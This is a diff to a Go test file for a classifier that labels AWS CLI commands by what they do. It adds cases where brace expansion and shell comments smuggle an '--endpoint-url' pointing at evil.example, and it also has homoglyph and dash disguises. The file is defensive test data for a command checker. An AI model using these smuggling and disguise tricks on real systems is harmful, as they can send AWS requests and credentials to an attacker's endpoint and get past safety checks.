@@ -198,6 +198,18 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"aws s3 ls > 2>/dev/null", ReadsAWS | WritesFile},
 		{"aws s3 ls >&2 2>&1", ReadsAWS},
 
+		// What an interactive shell makes of braces and comments.
+		{"aws ec2 describe-instances --filters {'Name=a b',--endpoint-url=https://evil.example}", NotUnderstood},
+		{`aws ec2 describe-instances --filters {Name=a\ b,--endpoint-url=https://evil.example}`, NotUnderstood},
+		{`aws ec2 describe-instances --filters {"$(echo "a b")",--endpoint-url=https://evil.example}`, NotUnderstood},
+		{"aws ec2 describe-instances --query 'Reservations[].Instances[].{Id:InstanceId,Type:InstanceType}'", ReadsAWS},
+		{"aws ec2 describe-instances --instance-ids i-1 # --endpoint-url https://evil.example", ReadsAWS | OtherEndpoint},
+		{"aws logs tail x # --unmask", ReadsAWS | ShowsSecrets},
+		{"aws logs describe-log-groups | uniq # out", ReadsAWS | ReadsFile | WritesFile | NotAWS | Several},
+		{"aws logs describe-log-groups # {a,--endpoint-url=https://evil.example}", NotUnderstood},
+		{"aws ec2 describe-instances --instance-ids i-1 # look at it", ReadsAWS},
+		{"# --endpoint-url x\naws ec2 describe-instances", ReadsAWS},
+
 		// Characters that deceive.
 		{"аws s3 ls", Disguised | NotAWS | NotUnderstood}, // the first letter is Cyrillic
 		{"aws s3 ls ––region us-east-1", Disguised | ReadsAWS},
